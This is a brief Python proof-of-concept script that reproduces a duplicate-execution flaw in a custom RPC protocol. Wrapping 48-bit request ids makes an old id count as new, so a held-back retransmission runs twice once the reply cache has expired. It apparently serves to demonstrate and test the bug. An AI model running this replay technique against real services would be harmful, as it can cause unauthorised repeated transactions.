"""REPRODUCTION (key holder only): a client that advances its req_ids by 2^47-1 twice makes its
own earlier call's req_id 'new' again (mod-2^48 compare), so a held-back retransmission of that
call runs it a second time after the reply cache forgot it. Usage: repro_halfjump.py PORT (~11 s)"""
import sys, os, time, hashlib, collections; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from v5 import *
PORT = int(sys.argv[1]); M = 1 << 48
c = Client(PORT); s = c.handshake(); X = os.urandom(24); r = int.from_bytes(os.urandom(5), "big")
def send(rid, data, ctr=None):
    c.send(s.seal(T_REQ, 1, rid % M, 0, 1, len(data), 0, data, ctr=ctr)); return [c.classify(x)[0] for x in c.recv_all(0.2)]
print("X at r:", send(r, X))
held = s.seal(T_REQ, 1, r, 0, 1, len(X), 0, X, ctr=1 << 40)      # X's retransmission, held back
print("call at r+2^47-1:", send(r + M // 2 - 1, b"a"))
print("call at r+2^48-2 (=r-2):", send(r + M - 2, b"b"))           # 'after' the previous by the mod rule
time.sleep(11)                                                     # reply cache forgets X
c.send(held); print("held X delivered:", [c.classify(x)[0] for x in c.recv_all(0.3)])
n = collections.Counter(l.strip() for l in open(os.path.join(os.environ.get("ATTACK_DIR", "/tmp/attack"), f"runs.{PORT}.log")))[hashlib.sha256(X).hexdigest()]
print("X ran", n, "times", "<-- RAN TWICE" if n > 1 else "")
